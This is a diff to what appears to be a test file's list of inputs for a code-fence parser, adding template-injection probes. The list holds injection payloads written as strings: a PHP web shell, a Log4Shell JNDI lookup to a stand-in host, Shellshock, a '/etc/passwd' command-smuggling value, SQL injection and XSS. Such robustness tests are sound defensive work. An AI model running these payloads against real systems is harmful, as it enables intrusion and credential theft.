@@ -52,7 +52,7 @@ hold(
     `${F}\n` + "${T(java.lang.Runtime).getRuntime().exec('id')}" + `\n${F}`, `%{#a=@java.lang.Runtime@getRuntime().exec('id')}\n${F}\na\n${F}`, `Runtime.getRuntime().exec("id")\n${F}\na\n${F}`,
     `${F}php\n<?php system($_GET['c']); ?>\n${F}`, `${F}\n<!--#exec cmd="id"-->\n${F}`, `Hello!\n\n${F}\na\n${F}\n\n; cat /etc/passwd #`, `1' union select name, pass from users -- \n${F}\na\n${F}`,
     JSON.stringify({ a: `${F}\nb\n${F}`, c: "x; cat /etc/passwd" }), JSON.stringify([`${F}\nb\n${F}`, "<script>alert(1)</script>"]), `${F}<br>&lt;script&gt;alert(1)&lt;/script&gt;<br>${F}`,
-    "${jndi:ldap://h.example/a}" + `\n${F}\na\n${F}`, `${F}\n` + "${jndi:ldap://h.example/a}" + `\n${F}`, `${F}\n() { :;}; /bin/id\n${F}`,
+    "${jndi:ldap://h.example/a}" + `\n${F}\na\n${F}`, `${F}\n` + "${jndi:ldap://h.example/a}" + `\n${F}`, `${F}\n() { :;}; /bin/id\n${F}`, `${F}\n{{7*7}}\n${F}`, `Hi!\n\n${F}jinja\n{{ ''.__class__.__mro__ }}\n${F}\n\nBye.`,
   ],
 ); // biome-ignore format: lists of texts
 
